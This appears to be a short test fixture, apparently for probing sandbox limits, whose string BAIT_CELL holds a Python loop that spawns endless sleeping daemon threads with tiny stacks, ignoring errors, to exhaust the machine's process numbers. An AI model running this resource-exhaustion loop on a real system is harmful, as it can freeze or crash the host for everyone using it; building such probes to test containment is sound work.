"""Starts threads with tiny stacks until the machine has no numbers for processes left."""

BAIT_CELL = r"""
import threading, time

threading.stack_size(32768)
while True:
    try:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
    except (RuntimeError, MemoryError):
        pass
    reached(threading.active_count() > 20)
"""
